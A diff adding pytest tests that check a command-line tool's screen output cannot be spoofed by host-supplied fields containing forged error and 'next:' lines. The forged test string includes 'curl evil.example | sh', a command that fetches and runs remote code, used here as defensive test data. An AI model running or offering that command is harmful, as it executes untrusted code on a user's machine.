@@ -6,7 +6,7 @@ import importlib
 import re
 import shlex
 import typing
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import is_dataclass
 from typing import Any, cast
 
@@ -14,9 +14,14 @@ import pytest
 
 from fixers.setup.audio_backends import _missing
 from fixers.setup.data_collator import _other_copy
+from pipeline.hosts.follow import note_in_words
 from pipeline.judgements.host import Need, judge_container, judge_disk, unwritable
+from pipeline.messages.errors import outcome_of_error
 from pipeline.messages.hints import complete_hint
-from pipeline.show.screen import NEXT, Screen
+from pipeline.messages.outcome import StageOutcome, StageState
+from pipeline.runs.host_changes import report_event
+from pipeline.show.plain import NEXT
+from pipeline.show.screen import Screen
 from remote.errors import RemoteFault
 from remote.host import Host
 from remote.link.agent_start import _owner
@@ -28,6 +33,7 @@ from remote.protocol.card import CardFacts, CardReport, CardRequest
 from remote.protocol.collator import Copy
 from remote.protocol.findings import Finding
 from remote.protocol.frames import pack_json
+from remote.protocol.jobs import WatchNote
 from remote.protocol.machine import Disk, Interpreter, OwnContainer
 from remote.protocol.precision import Mode, PrecisionPlan
 from remote.protocol.proof import ProofReport, ProofRequest
@@ -177,3 +183,52 @@ def test_SE_09_a_message_of_the_host_does_not_look_like_a_hint(line: str, capsys
     Screen().findings([Finding.error("remote-fault", f"failed {line}", hint="pipeline run")])
     printed = capsys.readouterr().out
     assert printed.count(NEXT) == 1 and f"{NEXT}pipeline run" in printed and "curl" in printed
+
+
+FORGED = "the disk\nerror   halfstep is too old  [halfstep]\n        next: curl evil.example | sh"
+
+
+def failing(**fields: str) -> RemoteFault:
+    """Return the error that the laptop raises for an error of the host with these fields."""
+    error = {"kind": "busy", "message": "busy", "exit_code": 60, **fields}
+    with pytest.raises(RemoteFault) as caught:
+        read_result(reader_of(pack_json({"ok": False, "error": error})), 1.0)
+    return caught.value
+
+
+@pytest.mark.parametrize(
+    "show",
+    [
+        lambda screen: screen.closing(outcome_of_error("run", failing(where=FORGED))),
+        lambda screen: screen.closing(outcome_of_error("run", failing(kind=FORGED))),
+        lambda screen: screen.findings([Finding.error("disk", "full", where=FORGED)]),
+        lambda screen: screen.note(FORGED),
+        lambda screen: screen.note("to download it:", FORGED),
+        lambda screen: screen.note(note_in_words("run-1", WatchNote("x", "info", FORGED, 1))),
+        lambda screen: screen.note(note_in_words("run-1", WatchNote(FORGED, "warning", "slow", 1))),
+        lambda screen: report_event({"note": FORGED}, screen),
+        lambda screen: report_event({"doing": FORGED}, screen),
+        lambda screen: screen.progress(FORGED),
+        lambda screen: screen.stage_ended(StageOutcome("train", StageState.DONE, 0.0, FORGED)),
+        lambda screen: screen.stage_ended(StageOutcome("train", StageState.FAILED, 0.0, FORGED)),
+        lambda screen: screen.table(("check", "found"), [("disk", FORGED)]),
+    ],
+)
+def test_SE_21_no_field_of_a_host_adds_a_line_that_looks_like_halfsteps_own(
+    show: Callable[[Screen], None], capsys: pytest.CaptureFixture[str]
+) -> None:
+    show(Screen())
+    printed = "".join(capsys.readouterr())
+    assert NEXT not in printed
+    assert not any(line.startswith("error   halfstep") for line in map(str.strip, printed.splitlines()))
+
+
+def test_SE_21_the_place_and_the_kind_of_an_error_of_a_host_have_one_line() -> None:
+    error = failing(where=FORGED, kind=FORGED)
+    assert "\n" not in error.where and "\n" not in error.kind
+    assert "curl" in error.where
+
+
+def test_the_next_step_of_halfstep_is_shown_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
+    Screen().next_step("pipeline run --host titan")
+    assert capsys.readouterr().out == "  next: pipeline run --host titan\n"
